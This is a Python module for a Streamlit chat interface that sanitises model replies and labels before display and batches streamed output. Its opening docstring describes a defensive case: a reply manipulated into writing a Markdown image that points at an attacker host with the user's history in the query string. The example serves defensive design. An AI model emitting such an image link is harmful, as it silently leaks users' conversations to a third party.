"""Text on its way to the screen: made inert, and streamed in batches a long reply cannot choke on.

Messages and replies are rendered as Markdown, never with raw HTML (no `unsafe_allow_html`), so a
`<script>` or an `<img onerror>` shows as text. Links still render: following one takes a click.
Images do not: a Markdown image loads by itself, so a reply that was talked into writing
`![](https://attacker.example/?q=<your history>)` would send the history away unseen; its syntax
is shown as text instead. Text is cleaned as it is for the history (`clean_text`): a reply may
carry a lone surrogate (a JSON "\\ud83d" escape), which Streamlit could not even send to the browser.

Every string a user, a file, a server or a model controls reaches the screen through one of three
functions: `inert_markdown` for a message body (its Markdown kept, images not), `inert_inline` for
a label set inside Markdown (a title, a name, a model id, a question: one line, shown as it is,
none of it syntax) and `inert_code` for a value shown as code (a session id).
"""

from __future__ import annotations

import bisect
import re
import string
import time
from collections.abc import Callable, Iterable, Iterator

from lib.context.conversation import clean_text

IMAGE_OPENER = "!["
# Where Markdown is read, the bracket is escaped: the text `![alt](url)` is shown, nothing is fetched.
INERT_OPENER = "!\\["
# Where it is not (code spans and blocks, HTML blocks: Streamlit shows them as typed, so a backslash
# there would show too), an invisible word joiner splits the opener instead. Either is safe wherever
# it lands (a misjudged place shows a backslash, or a link in place of the image's text, never an image).
WORD_JOINER = "\u2060"
LITERAL_OPENER = "!" + WORD_JOINER + "["

# CommonMark's blocks whose text is shown as typed: fenced code (its fence), HTML blocks (how each
# kind starts, and what ends it: a pattern on a line, or None for a blank line).
_FENCE = re.compile(r"^[ \t]*(`{3,}|~{3,})")
_HTML_BLOCKS: tuple[tuple[re.Pattern[str], re.Pattern[str] | None], ...] = (
    (
        re.compile(r"^ {0,3}<(?:pre|script|style|textarea)(?:[ \t>]|$)", re.I),
        re.compile(r"</(?:pre|script|style|textarea)>", re.I),
    ),
    (re.compile(r"^ {0,3}<!--"), re.compile(r"-->")),
    (re.compile(r"^ {0,3}<\?"), re.compile(r"\?>")),
    (re.compile(r"^ {0,3}<!\[CDATA\["), re.compile(r"\]\]>")),
    (re.compile(r"^ {0,3}<![A-Za-z]"), re.compile(r">")),
    (
        re.compile(
            r"^ {0,3}</?(?:address|article|aside|base|basefont|blockquote|body|caption|center|col|colgroup|dd|details|"
            r"dialog|dir|div|dl|dt|fieldset|figcaption|figure|footer|form|frame|frameset|h[1-6]|head|header|hr|html|"
            r"iframe|legend|li|link|main|menu|menuitem|nav|noframes|ol|optgroup|option|p|param|search|section|summary|"
            r"table|tbody|td|tfoot|th|thead|title|tr|track|ul)(?:[ \t]|/?>|$)",
            re.I,
        ),
        None,
    ),
)
# Any other tag alone on its line starts an HTML block too, but cannot interrupt a paragraph.
_LONE_TAG = re.compile(r"^ {0,3}(?:<[A-Za-z][A-Za-z0-9-]*(?:\s[^<>]*)?/?>|</[A-Za-z][A-Za-z0-9-]*\s*>)\s*$")
_BACKTICKS = re.compile(r"`+")
_BLOCK_MARKS = ("`", "~", "<")  # the first character of a line that can open a fence or an HTML block
_PARAGRAPH_BREAK = re.compile(r"\n[ \t]*(?:\n|$)")


def _fence_closes(line: str, fence: str) -> bool:
    closing = _FENCE.match(line)
    if not closing:
        return False
    run = closing.group(1)
    return run[0] == fence[0] and len(run) >= len(fence) and not line[closing.end() :].strip()


def _html_block_start(line: str, after_blank: bool) -> tuple[bool, re.Pattern[str] | None]:
    for begins, ends in _HTML_BLOCKS:
        if begins.match(line):
            return True, ends
    return after_blank and bool(_LONE_TAG.match(line)), None


def _literal_blocks(text: str) -> list[tuple[int, int]]:
    """[start, end) of the fenced code blocks and HTML blocks in `text`, whole lines."""
    blocks: list[tuple[int, int]] = []
    fence: str | None = None  # the open fence's run of backticks or tildes
    in_html, html_end = False, None
    offset, after_blank = 0, True
    for line in text.splitlines(keepends=True):
        start, offset = offset, offset + len(line)
        blank = not line.strip()
        if fence is None and not in_html and line.lstrip()[:1] not in _BLOCK_MARKS:
            after_blank = blank  # a plain line: nothing to track (most lines: skip the patterns)
            continue
        if fence is not None:
            blocks.append((start, offset))
            fence = None if _fence_closes(line, fence) else fence
        elif in_html and html_end is None and blank:
            in_html = False
        elif in_html:
            blocks.append((start, offset))
            in_html = not (html_end is not None and html_end.search(line))
        elif (opening := _FENCE.match(line)) and not (
            opening.group(1)[0] == "`" and "`" in line[opening.end() :]  # a backtick in the info string: no fence
        ):
            fence = opening.group(1)
            blocks.append((start, offset))
        else:
            in_html, html_end = _html_block_start(line, after_blank)
            if in_html:
                blocks.append((start, offset))
                in_html = not (html_end is not None and html_end.search(line))
        after_blank = blank
    return blocks


def _code_spans(text: str, offset: int) -> list[tuple[int, int]]:
    """[start, end) of the code spans in one paragraph: a run of backticks up to the next run as long."""
    runs = [(m.start(), m.end()) for m in _BACKTICKS.finditer(text)]
    by_length: dict[int, list[int]] = {}  # run length -> indexes into `runs`, in order
    for index, (start, end) in enumerate(runs):
        by_length.setdefault(end - start, []).append(index)
    spans, index = [], 0
    while index < len(runs):
        start, end = runs[index]
        same = by_length[end - start]
        later = bisect.bisect_right(same, index)
        if later == len(same):  # never closed: the backticks are plain text
            index += 1
            continue
        closer = same[later]
        spans.append((offset + start, offset + runs[closer][1]))
        index = closer + 1
    return spans


def _literal_regions(text: str) -> list[tuple[int, int]]:
    """[start, end) of everything in `text` Streamlit shows as typed, in order."""
    regions, position = [], 0
    for block_start, block_end in [*_literal_blocks(text), (len(text), len(text))]:
        between = text[position:block_start]
        paragraph = 0
        for brk in [*_PARAGRAPH_BREAK.finditer(between), None]:
            end = brk.start() if brk else len(between)
            regions += _code_spans(between[paragraph:end], position + paragraph)
            paragraph = brk.end() if brk else end
        regions.append((block_start, block_end))
        position = block_end
    return regions


def inert_markdown(text: str) -> str:
    """`text`, cleaned, for st.markdown with no image syntax left in it."""
    text = clean_text(text)
    if IMAGE_OPENER not in text:
        return text
    regions = _literal_regions(text)
    starts = [start for start, _ in regions]
    pieces, position = [], 0
    for found in re.finditer(re.escape(IMAGE_OPENER), text):
        at = found.start()
        region = bisect.bisect_right(starts, at) - 1
        literal = region >= 0 and at < regions[region][1]
        pieces += [text[position:at], LITERAL_OPENER if literal else INERT_OPENER]
        position = found.end()
    return "".join([*pieces, text[position:]])


# Every ASCII punctuation mark can be backslash-escaped in Markdown, and then it is only itself.
_ESCAPED = {ord(mark): "\\" + mark for mark in string.punctuation}


def one_line(text: str, limit: int | None = None) -> str:
    """`text` cleaned, its line breaks, tabs and runs of spaces made single spaces, and cut to
    `limit` characters (the last one an ellipsis) if it is longer."""
    line = " ".join(clean_text(text).split())
    if limit is not None and len(line) > limit:
        line = line[: max(limit - 1, 0)] + "…"
    return line


def inert_inline(text: str, limit: int | None = None) -> str:
    """`text` for a spot inside Markdown (bold, a caption, a progress text, a widget label): one line,
    every punctuation mark escaped, so none of it is syntax (no image, link, code span, emphasis, HTML,
    math or heading): it shows as it is."""
    return one_line(text, limit).translate(_ESCAPED)


def inert_code(text: str, limit: int | None = None) -> str:
    """`text` as one Markdown code span, whatever backticks it holds: fenced by a longer run than any
    inside, so none can close it early and let the rest be read as Markdown."""
    line = one_line(text, limit)
    fence = "`" * (max(map(len, _BACKTICKS.findall(line)), default=0) + 1)
    return f"{fence} {line} {fence}"  # a space each side is dropped when shown; it lets a backtick start or end it


def _unfinished(text: str) -> bool:
    """Whether the last character may join the next piece's first: "!" + "[", or a surrogate pair."""
    return text.endswith("!") or "\ud800" <= text[-1:] <= "\udbff"


def inert_deltas(deltas: Iterable[str]) -> Iterator[str]:
    """`inert_markdown` for a reply arriving in pieces: a last character that may pair with the
    next piece's first waits for it."""
    held = ""
    for delta in deltas:
        text = held + delta
        held = text[-1] if _unfinished(text) else ""
        text = text[: len(text) - len(held)]
        if text:
            yield inert_markdown(text)
    if held:
        yield inert_markdown(held)


def batched(
    deltas: Iterable[str], interval_s: float = 0.05, clock: Callable[[], float] = time.monotonic
) -> Iterator[str]:
    """Join pieces that arrive within `interval_s` of the last one shown. Streamlit re-renders the
    whole reply for every piece, so one per token made a 20,000-word answer take minutes."""
    pending: list[str] = []
    shown_at: float | None = None
    for delta in deltas:
        pending.append(delta)
        now = clock()
        if shown_at is None or now - shown_at >= interval_s:
            yield "".join(pending)
            pending, shown_at = [], now
    if pending:
        yield "".join(pending)


def for_screen(deltas: Iterable[str]) -> Iterator[str]:
    """What st.write_stream is given: inert, in batches."""
    return batched(inert_deltas(deltas))


# Per message in the payload preview: a 5 MB paste shown whole (three times: JSON, curl, Python)
# kept the browser's code highlighter busy for minutes.
PREVIEW_CHARS = 20_000


def shortened_body(body: dict, limit: int = PREVIEW_CHARS) -> tuple[dict, int]:
    """`body` for display, each message longer than `limit` cut in the middle (and marked), and how
    many characters were left out."""
    left_out, messages = 0, []
    for message in body.get("messages", []):
        content = message.get("content")
        if isinstance(content, str) and len(content) > limit:
            hidden = len(content) - limit
            left_out += hidden
            head, tail = content[: limit // 2], content[len(content) - limit // 2 :]
            message = {**message, "content": f"{head} …[{hidden:,} characters not shown]… {tail}"}
        messages.append(message)
    return {**body, "messages": messages}, left_out
